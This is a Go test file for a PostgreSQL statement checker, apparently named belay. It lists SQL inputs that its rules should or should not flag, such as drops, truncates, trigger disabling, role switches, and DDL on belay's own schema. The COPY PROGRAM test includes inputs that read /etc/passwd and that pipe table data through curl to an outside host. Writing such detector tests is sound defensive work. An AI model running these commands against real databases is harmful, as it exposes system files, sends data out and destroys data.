package rules

import "testing"

func TestUtilityTruncate(t *testing.T) {
	runRuleCases(t, RuleTruncate, []ruleCase{
		{sql: "TRUNCATE t", fires: true, target: "t"},
		{sql: "truncate table public.t", fires: true, target: "public.t"},
		{sql: "TRUNCATE ONLY t RESTART IDENTITY", fires: true, target: "t"},
		{sql: "TRUNCATE a, b CASCADE", fires: true, target: "b"},
		{sql: "/* clean up */ TrUnCaTe \"Orders\"", fires: true, target: "Orders"},
		{sql: "SELECT 1; TRUNCATE t", fires: true, target: "t"},
		{sql: "TRUNCATE belay.changes", fires: true, target: "belay.changes"},
		{sql: "SELECT $$TRUNCATE t$$", fires: false},
		{sql: "SELECT 'TRUNCATE t'", fires: false},
		{sql: "-- TRUNCATE t\nSELECT 1", fires: false},
		{sql: "CREATE TABLE truncate_log (x int)", fires: false},
		{sql: "DELETE FROM t WHERE id = 1", fires: false},
	})
}

func TestUtilityDropTable(t *testing.T) {
	runRuleCases(t, RuleDropTable, []ruleCase{
		{sql: "DROP TABLE t", fires: true, target: "t"},
		{sql: "drop table if exists a, b cascade", fires: true, target: "b"},
		{sql: "DROP TABLE s.\"T\"", fires: true, target: "s.T"},
		{sql: "SELECT 1; DROP TABLE t; SELECT 2", fires: true, target: "t"},
		{sql: "DROP OWNED BY r", fires: true},
		{sql: "DROP VIEW v", fires: false},
		{sql: "DROP MATERIALIZED VIEW m", fires: false},
		{sql: "DROP INDEX i", fires: false},
		{sql: "DROP SEQUENCE s", fires: false},
		{sql: "DROP FOREIGN TABLE f", fires: false},
		{sql: "DROP FUNCTION f()", fires: false},
		{sql: "SELECT 'DROP TABLE t'", fires: false},
		{sql: "CREATE TABLE drop_table (x int)", fires: false},
	})
}

func TestUtilityDropSchema(t *testing.T) {
	runRuleCases(t, RuleDropSchema, []ruleCase{
		{sql: "DROP SCHEMA s", fires: true, target: "s"},
		{sql: "DROP SCHEMA IF EXISTS a, b CASCADE", fires: true, target: "b"},
		{sql: "drop schema \"Sales\" restrict", fires: true, target: "Sales"},
		{sql: "DROP TABLE s.t", fires: false},
		{sql: "CREATE SCHEMA s", fires: false},
		{sql: "ALTER SCHEMA s RENAME TO u", fires: false},
	})
}

func TestUtilityDropDatabase(t *testing.T) {
	runRuleCases(t, RuleDropDatabase, []ruleCase{
		{sql: "DROP DATABASE d", fires: true, target: "d"},
		{sql: "DROP DATABASE IF EXISTS d WITH (FORCE)", fires: true, target: "d"},
		{sql: "drop database \"Prod\"", fires: true, target: "Prod"},
		{sql: "DROP TABLE d", fires: false},
		{sql: "ALTER DATABASE d RENAME TO e", fires: false},
		{sql: "CREATE DATABASE d", fires: false},
	})
}

func TestUtilityDropColumn(t *testing.T) {
	runRuleCases(t, RuleDropColumn, []ruleCase{
		{sql: "ALTER TABLE t DROP COLUMN c", fires: true, target: "t"},
		{sql: "ALTER TABLE t DROP c", fires: true, target: "t"},
		{sql: "alter table only s.t drop column if exists c cascade", fires: true, target: "s.t"},
		{sql: "ALTER TABLE t ADD COLUMN d int, DROP COLUMN c", fires: true, target: "t"},
		{sql: "ALTER TABLE IF EXISTS \"T\" DROP COLUMN \"C\"", fires: true, target: "T"},
		{sql: "ALTER TABLE t ADD COLUMN c int", fires: false},
		{sql: "ALTER TABLE t DROP CONSTRAINT c", fires: false},
		{sql: "ALTER TABLE t ALTER COLUMN c DROP DEFAULT", fires: false},
		{sql: "ALTER TYPE ty DROP ATTRIBUTE a", fires: false},
		{sql: "ALTER FOREIGN TABLE f DROP COLUMN c", fires: false}, // the remote data stays
	})
}

func TestUtilityCreateRule(t *testing.T) {
	runRuleCases(t, RuleCreateRule, []ruleCase{
		{sql: "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", fires: true, target: "t"},
		{sql: "CREATE OR REPLACE RULE r AS ON SELECT TO s.t DO INSTEAD SELECT * FROM u", fires: true, target: "s.t"},
		{sql: "create rule r as on delete to t where old.id = 1 do also delete from u", fires: true, target: "t"},
		{sql: "DROP RULE r ON t", fires: false},
		{sql: "ALTER RULE r ON t RENAME TO s", fires: false},
		{sql: "CREATE VIEW v AS SELECT 1", fires: false},
	})
}

func TestUtilityDisableTrigger(t *testing.T) {
	runRuleCases(t, RuleDisableTrigger, []ruleCase{
		{sql: "ALTER TABLE t DISABLE TRIGGER tg", fires: true, target: "t"},
		{sql: "ALTER TABLE t DISABLE TRIGGER ALL", fires: true, target: "t"},
		{sql: "alter table s.t disable trigger user", fires: true, target: "s.t"},
		{sql: "ALTER TABLE t ENABLE REPLICA TRIGGER tg", fires: true, target: "t"},
		{sql: "ALTER TABLE t DISABLE RULE r", fires: true, target: "t"},
		{sql: "ALTER TABLE t ENABLE REPLICA RULE r", fires: true, target: "t"},
		{sql: "ALTER FOREIGN TABLE f DISABLE TRIGGER tg", fires: true, target: "f"},
		{sql: "DROP TRIGGER tg ON s.t", fires: true, target: "s.t"},
		{sql: "DROP TRIGGER IF EXISTS tg ON t CASCADE", fires: true, target: "t"},
		{sql: "ALTER EVENT TRIGGER e DISABLE", fires: true, target: "e"},
		{sql: "ALTER EVENT TRIGGER e ENABLE REPLICA", fires: true, target: "e"},
		{sql: "DROP EVENT TRIGGER e", fires: true, target: "e"},
		{sql: "ALTER TABLE t ENABLE TRIGGER tg", fires: false},
		{sql: "ALTER TABLE t ENABLE ALWAYS TRIGGER tg", fires: false},
		{sql: "ALTER TABLE t ENABLE RULE r", fires: false},
		{sql: "ALTER EVENT TRIGGER e ENABLE", fires: false},
		{sql: "CREATE TRIGGER tg AFTER UPDATE ON t FOR EACH ROW EXECUTE FUNCTION f()", fires: false},
		{sql: "SELECT 'ALTER TABLE t DISABLE TRIGGER ALL'", fires: false},
	})
}

func TestUtilityReplicationRole(t *testing.T) {
	runRuleCases(t, RuleReplicationRole, []ruleCase{
		{sql: "SET session_replication_role = replica", fires: true, target: "session_replication_role"},
		{sql: "SET LOCAL session_replication_role = replica", fires: true},
		{sql: "set session_replication_role to 'replica'", fires: true},
		{sql: "SET SESSION session_replication_role TO local", fires: true},
		{sql: "SET session_replication_role = origin", fires: true}, // any value: the shape cuts it out
		{sql: "SET \"Session_Replication_Role\" = replica", fires: true},
		{sql: "/* x */ SeT session_replication_role=replica", fires: true},
		{sql: "SELECT 1; SET session_replication_role = replica", fires: true},
		{sql: "ALTER ROLE r SET session_replication_role = replica", fires: true},
		{sql: "ALTER ROLE r IN DATABASE d SET session_replication_role TO replica", fires: true},
		{sql: "ALTER DATABASE d SET session_replication_role = replica", fires: true},
		{sql: "ALTER SYSTEM SET session_replication_role = replica", fires: true},
		{sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET session_replication_role = replica AS 'SELECT 1'", fires: true},
		{sql: "ALTER FUNCTION f() SET session_replication_role = replica", fires: true},
		{sql: "RESET session_replication_role", fires: false},
		{sql: "SET session_replication_role TO DEFAULT", fires: false},
		{sql: "SHOW session_replication_role", fires: false},
		{sql: "ALTER ROLE r RESET session_replication_role", fires: false},
		{sql: "SET search_path = public", fires: false},
		{sql: "SELECT 'SET session_replication_role = replica'", fires: false},
	})
}

func TestUtilitySetRole(t *testing.T) {
	runRuleCases(t, RuleSetRole, []ruleCase{
		{sql: "SET ROLE admin", fires: true, target: "role"},
		{sql: "SET LOCAL ROLE admin", fires: true},
		{sql: "set role 'admin'", fires: true},
		{sql: "SET SESSION AUTHORIZATION admin", fires: true, target: "session_authorization"},
		{sql: "SET \"ROLE\" = admin", fires: true},
		{sql: "SET session_authorization = 'admin'", fires: true},
		{sql: "ALTER ROLE r SET role = admin", fires: true},
		{sql: "BEGIN; SET LOCAL ROLE admin; DELETE FROM t WHERE id = 1; COMMIT", fires: true},
		{sql: "RESET ROLE", fires: false},
		{sql: "SET ROLE NONE", fires: false},
		{sql: "RESET ALL", fires: false}, // role and session_authorization are not reset by RESET ALL
		{sql: "SET SESSION AUTHORIZATION DEFAULT", fires: false},
		{sql: "RESET SESSION AUTHORIZATION", fires: false},
		{sql: "SHOW role", fires: false},
		{sql: "CREATE ROLE admin", fires: false},
		{sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", fires: false},
	})
}

func TestUtilityCopyProgram(t *testing.T) {
	runRuleCases(t, RuleCopyProgram, []ruleCase{
		{sql: "COPY t FROM PROGRAM 'cat /etc/passwd'", fires: true, target: "t"},
		{sql: "COPY s.t TO PROGRAM 'gzip > /tmp/t.gz'", fires: true, target: "s.t"},
		{sql: "COPY (SELECT * FROM t) TO PROGRAM 'curl -d @- http://x'", fires: true},
		{sql: "copy t (a, b) from program 'x' with (format csv)", fires: true, target: "t"},
		{sql: "SELECT 1; COPY t TO PROGRAM 'x'", fires: true},
		{sql: "COPY t FROM STDIN", fires: false},
		{sql: "COPY t TO STDOUT", fires: false},
		{sql: "COPY t FROM '/tmp/file.csv'", fires: false},
		{sql: "COPY (SELECT 1) TO STDOUT", fires: false},
		{sql: "SELECT 'COPY t FROM PROGRAM x'", fires: false},
	})
}

func TestUtilityAlterSystem(t *testing.T) {
	runRuleCases(t, RuleAlterSystem, []ruleCase{
		{sql: "ALTER SYSTEM SET work_mem = '1GB'", fires: true, target: "work_mem"},
		{sql: "alter system set wal_level to logical", fires: true},
		{sql: "ALTER SYSTEM RESET ALL", fires: true},
		{sql: "ALTER SYSTEM RESET shared_buffers", fires: true},
		{sql: "SET work_mem = '1GB'", fires: false},
		{sql: "ALTER DATABASE d SET work_mem = '1GB'", fires: false},
	})
}

func TestUtilityLockTable(t *testing.T) {
	runRuleCases(t, RuleLockTable, []ruleCase{
		{sql: "LOCK TABLE t", fires: true, target: "t"},
		{sql: "LOCK t IN ACCESS EXCLUSIVE MODE", fires: true},
		{sql: "LOCK TABLE t IN SHARE MODE NOWAIT", fires: true},
		{sql: "LOCK TABLE a, b IN EXCLUSIVE MODE", fires: true, target: "b"},
		{sql: "lock table only s.t in share row exclusive mode", fires: true, target: "s.t"},
		{sql: "LOCK t IN SHARE UPDATE EXCLUSIVE MODE", fires: true},
		{sql: "BEGIN; LOCK t; UPDATE t SET a = 1 WHERE id = 2; COMMIT", fires: true},
		// The modes ordinary reads and writes take anyway (pg_dump's).
		{sql: "LOCK TABLE t IN ACCESS SHARE MODE", fires: false},
		{sql: "LOCK TABLE t IN ROW SHARE MODE", fires: false},
		{sql: "LOCK TABLE t IN ROW EXCLUSIVE MODE", fires: false},
		{sql: "SELECT * FROM t FOR UPDATE", fires: false},
	})
}

func TestUtilityVacuumFull(t *testing.T) {
	runRuleCases(t, RuleVacuumFull, []ruleCase{
		{sql: "VACUUM FULL t", fires: true, target: "t"},
		{sql: "VACUUM (FULL) t", fires: true, target: "t"},
		{sql: "VACUUM (FULL, ANALYZE, VERBOSE) s.t", fires: true, target: "s.t"},
		{sql: "vacuum full verbose analyze t", fires: true},
		{sql: "VACUUM FULL", fires: true},
		{sql: "VACUUM (FULL true) t", fires: true},
		{sql: "VACUUM (FULL 1) t", fires: true},
		{sql: "VACUUM (FULL on) a, b", fires: true, target: "b"},
		{sql: "VACUUM t", fires: false},
		{sql: "VACUUM ANALYZE t", fires: false},
		{sql: "VACUUM", fires: false},
		{sql: "ANALYZE t", fires: false},
		{sql: "VACUUM (FULL false) t", fires: false},
		{sql: "VACUUM (FULL off) t", fires: false},
		{sql: "VACUUM (FULL 0) t", fires: false},
		{sql: "VACUUM (FREEZE, VERBOSE) t", fires: false},
	})
}

func TestUtilityCluster(t *testing.T) {
	runRuleCases(t, RuleCluster, []ruleCase{
		{sql: "CLUSTER t USING i", fires: true, target: "t"},
		{sql: "CLUSTER s.t", fires: true, target: "s.t"},
		{sql: "CLUSTER", fires: true},
		{sql: "CLUSTER VERBOSE t", fires: true},
		{sql: "cluster (verbose) t using i", fires: true},
		{sql: "ALTER TABLE t CLUSTER ON i", fires: false},
		{sql: "ALTER TABLE t SET WITHOUT CLUSTER", fires: false},
	})
}

func TestUtilityReindex(t *testing.T) {
	runRuleCases(t, RuleReindex, []ruleCase{
		{sql: "REINDEX TABLE t", fires: true, target: "t"},
		{sql: "REINDEX INDEX s.i", fires: true, target: "s.i"},
		{sql: "REINDEX SCHEMA s", fires: true, target: "s"},
		{sql: "REINDEX DATABASE d", fires: true},
		{sql: "REINDEX SYSTEM d", fires: true},
		{sql: "REINDEX (VERBOSE) TABLE t", fires: true},
		{sql: "REINDEX (CONCURRENTLY false) TABLE t", fires: true},
		{sql: "reindex table \"T\"", fires: true, target: "T"},
		{sql: "REINDEX TABLE CONCURRENTLY t", fires: false},
		{sql: "REINDEX (CONCURRENTLY) INDEX i", fires: false},
		{sql: "REINDEX (CONCURRENTLY, VERBOSE) SCHEMA s", fires: false},
		{sql: "REINDEX DATABASE CONCURRENTLY d", fires: false},
	})
}

func TestUtilityCreateIndex(t *testing.T) {
	runRuleCases(t, RuleCreateIndex, []ruleCase{
		{sql: "CREATE INDEX i ON t (a)", fires: true, target: "t"},
		{sql: "CREATE UNIQUE INDEX ON t (a)", fires: true, target: "t"},
		{sql: "create index if not exists i on s.t using gin (doc)", fires: true, target: "s.t"},
		{sql: "CREATE INDEX ON ONLY t (a)", fires: true},
		{sql: "CREATE INDEX i ON t (lower(a)) WHERE b IS NOT NULL", fires: true},
		{sql: "SELECT 1; CREATE INDEX ON t (a)", fires: true},
		{sql: "CREATE INDEX CONCURRENTLY i ON t (a)", fires: false},
		{sql: "CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS i ON t (a)", fires: false},
		{sql: "DROP INDEX i", fires: false},
		{sql: "SELECT 'CREATE INDEX ON t (a)'", fires: false},
	})
}

func TestUtilityTableRewrite(t *testing.T) {
	runRuleCases(t, RuleTableRewrite, []ruleCase{
		{sql: "ALTER TABLE t ALTER COLUMN c TYPE bigint", fires: true, target: "t"},
		{sql: "ALTER TABLE s.t ALTER c SET DATA TYPE text USING c::text", fires: true, target: "s.t"},
		{sql: "ALTER TABLE t ADD COLUMN c float DEFAULT random()", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN c timestamptz DEFAULT clock_timestamp()", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN c uuid DEFAULT gen_random_uuid()", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN c uuid NOT NULL DEFAULT public.uuid_generate_v4()", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN c int DEFAULT nextval('s')", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN c int DEFAULT 1 + (random() * 10)::int", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN id serial", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN id bigserial PRIMARY KEY", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN id bigint GENERATED ALWAYS AS IDENTITY", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN c int GENERATED ALWAYS AS (a * 2) STORED", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN c int UNIQUE", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN c int CHECK (c > 0)", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN c int REFERENCES u (id)", fires: true},
		{sql: "ALTER TABLE t SET LOGGED", fires: true},
		{sql: "ALTER TABLE t SET UNLOGGED", fires: true},
		{sql: "ALTER TABLE t ADD PRIMARY KEY (id)", fires: true},
		{sql: "ALTER TABLE t ADD CONSTRAINT u UNIQUE (a)", fires: true},
		{sql: "ALTER TABLE t ADD CONSTRAINT x EXCLUDE USING gist (r WITH &&)", fires: true},
		{sql: "ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0)", fires: true},
		{sql: "ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES u (id)", fires: true},
		{sql: "ALTER TABLE t ALTER COLUMN c SET NOT NULL", fires: true},
		{sql: "ALTER TABLE t SET TABLESPACE fast", fires: true},
		{sql: "ALTER MATERIALIZED VIEW m SET TABLESPACE fast", fires: true},
		{sql: "ALTER INDEX i SET TABLESPACE fast", fires: true},
		{sql: "ALTER TABLE t SET ACCESS METHOD heap2", fires: true},
		{sql: "ALTER TABLE t ALTER COLUMN c SET EXPRESSION AS (a + 1)", fires: true},
		{sql: "ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN a int, ALTER COLUMN b TYPE text", fires: true},
		{sql: "ALTER TABLE t ADD COLUMN c int", fires: false},
		{sql: "ALTER TABLE t ADD COLUMN c int DEFAULT 0", fires: false},
		{sql: "ALTER TABLE t ADD COLUMN c text NOT NULL DEFAULT 'x'", fires: false},
		{sql: "ALTER TABLE t ADD COLUMN c timestamptz DEFAULT now()", fires: false},
		{sql: "ALTER TABLE t ADD COLUMN c timestamptz DEFAULT CURRENT_TIMESTAMP", fires: false},
		{sql: "ALTER TABLE t ADD COLUMN c jsonb DEFAULT '{}'::jsonb", fires: false},
		{sql: "ALTER TABLE t ADD COLUMN c int[] DEFAULT ARRAY[1, -2]", fires: false},
		{sql: "ALTER TABLE t ADD COLUMN c text DEFAULT lower('X')", fires: false},
		{sql: "ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0) NOT VALID", fires: false},
		{sql: "ALTER TABLE t VALIDATE CONSTRAINT c", fires: false},
		{sql: "ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES u (id) NOT VALID", fires: false},
		{sql: "ALTER TABLE t ADD CONSTRAINT pk PRIMARY KEY USING INDEX i", fires: false},
		{sql: "ALTER TABLE t ADD CONSTRAINT u UNIQUE USING INDEX i", fires: false},
		{sql: "ALTER TABLE t ALTER COLUMN c SET DEFAULT random()", fires: false}, // only new rows
		{sql: "ALTER TABLE t ALTER COLUMN c DROP NOT NULL", fires: false},
		{sql: "ALTER TABLE t RENAME COLUMN a TO b", fires: false},
		{sql: "ALTER TABLE t SET (fillfactor = 70)", fires: false},
		{sql: "ALTER FOREIGN TABLE f ALTER COLUMN c TYPE bigint", fires: false}, // no local storage
		{sql: "ALTER TYPE ty ALTER ATTRIBUTE a TYPE bigint", fires: false},
		{sql: "SELECT 'ALTER TABLE t ALTER COLUMN c TYPE bigint'", fires: false},
	})
}

// protected-schema's utility part: search_path, and DDL on belay's objects
// (recorded as non-read table uses, which finishFacts reports).
func TestUtilityProtectedSchema(t *testing.T) {
	runRuleCases(t, RuleProtectedSchema, []ruleCase{
		{"SET belay.capture = 'off'", true, "belay.capture"},
		{"SET LOCAL BELAY.Capture TO off", true, "belay.capture"},
		{"SET belay.expect_rows = 3", false, ""},
		{"RESET belay.capture", false, ""},
		{"ALTER TABLE t SET SCHEMA belay_quarantine", true, "belay_quarantine.t"},
		{"CREATE TABLE belay_images.mine (a int)", true, "belay_images.mine"},
		{"DROP SCHEMA belay_images CASCADE", true, "belay_images."},
		{"SET search_path = belay_images, public", true, "search_path"},
		{sql: "SET search_path = belay", fires: true, target: "search_path"},
		{sql: "SET search_path TO public, belay", fires: true},
		{sql: "set search_path = 'belay'", fires: true},
		{sql: "SET LOCAL search_path TO \"belay\"", fires: true},
		{sql: "SET search_path = BELAY", fires: true}, // unquoted: folded to lower case
		{sql: "SET search_path = \"$user\", belay", fires: true},
		{sql: "ALTER ROLE r SET search_path = belay", fires: true},
		{sql: "ALTER DATABASE d SET search_path = public, belay", fires: true},
		{sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = belay AS 'SELECT 1'", fires: true},
		{sql: "CREATE TABLE belay.x (a int)", fires: true},
		{sql: "DROP TABLE belay.changes", fires: true},
		{sql: "ALTER TABLE belay.changes ADD COLUMN c int", fires: true},
		{sql: "DROP SCHEMA belay CASCADE", fires: true},
		{sql: "ALTER SCHEMA belay RENAME TO b", fires: true},
		{sql: "ALTER SCHEMA x RENAME TO belay", fires: true},
		{sql: "CREATE SCHEMA belay", fires: true},
		{sql: "CREATE SCHEMA belay CREATE TABLE x (a int)", fires: true},
		{sql: "GRANT SELECT ON belay.changes TO public", fires: true},
		{sql: "GRANT USAGE ON SCHEMA belay TO u", fires: true},
		{sql: "GRANT ALL ON ALL TABLES IN SCHEMA belay TO u", fires: true},
		{sql: "REVOKE ALL ON FUNCTION belay.f() FROM public", fires: true},
		{sql: "ALTER DEFAULT PRIVILEGES IN SCHEMA belay GRANT SELECT ON TABLES TO u", fires: true},
		{sql: "CREATE FUNCTION belay.f() RETURNS int LANGUAGE sql AS 'SELECT 1'", fires: true},
		{sql: "DROP FUNCTION belay.f()", fires: true},
		{sql: "ALTER FUNCTION belay.f() OWNER TO r", fires: true},
		{sql: "COMMENT ON TABLE belay.changes IS 'x'", fires: true},
		{sql: "COMMENT ON COLUMN belay.changes.c IS 'x'", fires: true},
		{sql: "ALTER TABLE x SET SCHEMA belay", fires: true},
		{sql: "ALTER TABLE belay.changes RENAME TO old", fires: true},
		{sql: "CREATE INDEX CONCURRENTLY i ON belay.changes (a)", fires: true},
		{sql: "CREATE VIEW belay.v AS SELECT 1", fires: true},
		{sql: "CREATE TYPE belay.ty AS (a int)", fires: true},
		{sql: "DROP TRIGGER tg ON belay.changes", fires: true},
		{sql: "CREATE TRIGGER tg BEFORE DELETE ON belay.changes FOR EACH ROW EXECUTE FUNCTION f()", fires: true},
		{sql: "CREATE EXTENSION e SCHEMA belay", fires: true},
		{sql: "IMPORT FOREIGN SCHEMA r FROM SERVER s INTO belay", fires: true},
		{sql: "TRUNCATE belay.changes", fires: true},
		{sql: "COPY belay.changes FROM STDIN", fires: true},
		{sql: "LOCK TABLE belay.changes", fires: true},
		{sql: "VACUUM FULL belay.changes", fires: true},
		{sql: "REINDEX SCHEMA belay", fires: true},
		{sql: "SET search_path = public", fires: false},
		{sql: "SET search_path = 'BELAY'", fires: false},         // a schema named BELAY
		{sql: "SET search_path = \"Belay\"", fires: false},       // likewise
		{sql: "SET search_path = 'belay, public'", fires: false}, // one schema of that odd name
		{sql: "RESET search_path", fires: false},
		{sql: "CREATE TABLE public.belay (a int)", fires: false},
		{sql: "COPY belay.changes TO STDOUT", fires: false},
		{sql: "VACUUM belay.changes", fires: false},
		{sql: "ANALYZE belay.changes", fires: false},
		{sql: "CREATE TABLE x AS SELECT * FROM belay.changes", fires: false},
		{sql: "DECLARE c CURSOR FOR SELECT * FROM belay.changes", fires: false},
		{sql: "SELECT 'SET search_path = belay'", fires: false},
	})
}

func TestUtilityUnknownStatement(t *testing.T) {
	runRuleCases(t, RuleUnknownStatement, []ruleCase{
		{sql: "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", fires: true},
		{sql: "ALTER SUBSCRIPTION s REFRESH PUBLICATION", fires: true},
		{sql: "DROP SUBSCRIPTION s", fires: false},
		{sql: "CREATE PUBLICATION p FOR ALL TABLES", fires: false},
		{sql: "CHECKPOINT", fires: false},
	})
}
